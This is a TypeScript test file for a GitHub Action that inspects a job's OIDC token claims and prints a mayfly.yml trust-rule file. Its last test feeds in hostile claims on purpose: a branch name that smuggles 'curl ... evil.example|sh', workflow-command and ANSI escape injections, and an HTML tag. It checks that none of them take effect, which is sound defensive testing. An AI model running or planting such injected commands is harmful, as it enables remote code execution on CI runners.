import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { expect, test } from 'vitest'
import { parse } from 'yaml'
import { leaksOf, leftBehind } from '../support/story.ts'
import { openWorld, type World, within } from '../support/world.ts'

const uses = resolve('actions/inspect')
const step = { name: 'inspect', uses }

/** Only an issuer: the step must need nothing else. */
async function inWorld(scenario: (world: World) => Promise<void>): Promise<void> {
  const world = await openWorld(async () => ({}))
  world.issuer.claims = { iss: 'https://token.actions.githubusercontent.com' }
  await within(world, scenario)
}

/** The pasted file: the lines of the log from `version: 1` to the next empty line. */
function pasted(text: string): string {
  return /^version: 1\n(?:[^\n`]+\n)+/m.exec(text)?.[0] ?? ''
}

test('a job sees its claims, a file to paste and a command to run, and gets nothing', () =>
  inWorld(async (world) => {
    const job = await world.run([step])
    const [main, ...more] = job.steps
    expect([main?.outcome, more]).toEqual(['success', []])
    expect(job.log.replaceAll(/[0-9a-f]{8}-[0-9a-f-]{27}|\b\d{10}( \(.*\))/g, '…')).toMatchSnapshot()
    expect(job.summary).toContain('| `repository_id` | `34` |')
    expect(pasted(job.summary)).toBe(pasted(job.log))
    expect(parse(pasted(job.log))).toEqual({
      version: 1,
      issuers: { github: { ids: { acme: 12, 'acme/api': 34 } } },
      rules: {
        main: {
          who: { github: 'acme/api', branch: 'main', event: 'push' },
          may: { aws: 'arn:aws:iam::111111111111:role/deploy' },
        },
      },
    })
    expect(world.traffic()).toEqual(['ID token for mayfly-inspect'])
    expect([main?.env, main?.outputs, main?.state]).toEqual([{}, {}, {}])
    expect(leaksOf(job, world)).toEqual([])
    expect(leftBehind(job)).toEqual([])
    expect(existsSync(join(uses, 'post.js'))).toBe(false)
  }))

test.each([
  [
    { environment: 'production', sub: 'repo:acme@12/api@34:environment:production' },
    { ids: { acme: 12, 'acme/api': 34 }, subject: 'immutable' },
    { production: { github: 'acme/api', environment: 'production', branch: 'main', event: 'push' } },
  ],
  [
    { ref: 'refs/tags/v1.0', ref_type: 'tag', sub: 'repo:acme/api:ref:refs/tags/v1.0' },
    { ids: { acme: 12, 'acme/api': 34 } },
    { 'v1-0': { github: 'acme/api', tag: 'v1.0', event: 'push' } },
  ],
  [
    { ref: 'refs/pull/7/merge', event_name: 'pull_request', sub: 'repo:acme/api:pull_request' },
    { ids: { acme: 12, 'acme/api': 34 } },
    { 'pull-request': { github: 'acme/api', event: 'pull_request' } },
  ],
  [
    {
      iss: 'https://token.actions.githubusercontent.com/acme',
      job_workflow_ref: 'acme/workflows/.github/workflows/deploy.yml@refs/heads/main',
    },
    { url: 'https://token.actions.githubusercontent.com/acme', ids: { acme: 12, 'acme/api': 34 } },
    {
      main: {
        github: 'acme/api',
        branch: 'main',
        workflow: 'acme/workflows/.github/workflows/deploy.yml@refs/heads/main',
        event: 'push',
      },
    },
  ],
])('the rule fits the job: %j', (claims, issuer, who) =>
  inWorld(async (world) => {
    world.issuer.claims = { ...world.issuer.claims, ...claims }
    const job = await world.run([step])
    const { issuers, rules } = parse(pasted(job.log))
    expect(issuers).toEqual({ github: issuer })
    expect(Object.fromEntries(Object.entries<{ who: unknown }>(rules).map(([name, rule]) => [name, rule.who]))).toEqual(
      who,
    )
  }),
)

test('a checked-out mayfly.yml is judged, each rule with its reason, whatever audience the token has', () =>
  inWorld(async (world) => {
    const file = `version: 1
issuers:
  github: { ids: { acme: 12, acme/api: 34 } }
rules:
  deploy:
    who: { github: acme/api, branch: main }
    may: { aws: "arn:aws:iam::111111111111:role/deploy" }
  release:
    who: { github: acme/api, tag: "v*" }
    may: { vault: { role: release, audience: "https://vault.example.com", policies: [release] } }
`
    const checkout = {
      name: 'checkout',
      during: ({ workspace }: { workspace: string }) => writeFileSync(join(workspace, 'mayfly.yml'), file),
    }
    const seen = await world.run([checkout, step])
    expect(seen.failed).toBe(false)
    expect(seen.log).toMatch(/^rule deploy: .*role\/deploy +yes$/m)
    expect(seen.log).toMatch(/^rule release: .* +no: ref/m)
    expect(seen.summary).toContain('| rule | accepts this job |')
    const broken = await world.run([
      {
        name: 'checkout',
        during: ({ workspace }) => writeFileSync(join(workspace, 'mayfly.yml'), 'version: 2\nrulez: {}\n'),
      },
      step,
    ])
    expect(broken.failed).toBe(false)
    expect(broken.log).toMatch(/^mayfly\.yml:1:1: version must be 1/m)
    const folder = await world.run([
      { name: 'checkout', during: ({ workspace }) => mkdirSync(join(workspace, 'mayfly.yml')) },
      step,
    ])
    expect(folder.failed).toBe(false)
    expect(folder.log).toMatch(/^mayfly\.yml is a folder, and no file$/m)
  }))

test('it says what is certain from the token alone', () =>
  inWorld(async (world) => {
    world.issuer.claims = { ...world.issuer.claims, sub: 'repository_owner:acme' }
    const job = await world.run([step])
    expect(job.log).toMatch(/^Note: .*default/m)
    expect(job.summary).toMatch(/^Note: `.*default/m)
  }))

test('the error of a job without id-token: write says what it needs, and wrong inputs are reported at once', () =>
  inWorld(async (world) => {
    const without = await world.run([step], { issuer: undefined })
    expect(without.failed).toBe(true)
    expect(without.log).toContain('ERR_ID_TOKEN_UNAVAILABLE')
    expect(without.log).toContain('id-token: write')
    const wrong = await world.run([{ ...step, with: { audience: 'two words', proxy: 'ftp://x', audeince: 'x' } }])
    expect(wrong.log).toContain('ERR_INPUT_INVALID')
    for (const word of ['audience', 'proxy', 'audeince']) expect(wrong.log).toContain(word)
    expect(world.issuer.requests).toEqual([])
  }))

test('hostile claims reach neither the log, the summary nor the pasted file as anything but text', () =>
  inWorld(async (world) => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell would expand it
    const branch = "x';curl${IFS}evil.example|sh;'"
    const environment = 'a" }\n##[error]::add-mask::x `|` *\u001b[31m \u202e # "'
    world.issuer.claims = {
      ...world.issuer.claims,
      ref: `refs/heads/${branch}`,
      environment,
      workflow: '```\n<img src=x>',
      sub: `repo:acme/api:environment:${environment}`,
    }
    const job = await world.run([step])
    expect(job.failed).toBe(false)
    expect(job.annotations).toEqual([])
    expect(job.steps[0]?.commands.filter(({ name }) => name !== 'add-mask')).toEqual([])
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they must not be there
    expect(job.steps[0]?.printed).not.toMatch(/[\x00-\x09\x0b-\x1f\u202e]|##\[/)
    const { who } = Object.values<{ who: Record<string, string> }>(parse(pasted(job.log)).rules)[0] ?? {}
    expect(who).toMatchObject({ branch, environment })
    // A fence that somebody else could close, or a cell that ends too early.
    expect(job.summary.match(/^```/gm)?.length).toBe(4)
    expect(job.summary).not.toContain('<img src=x>\n')
  }))
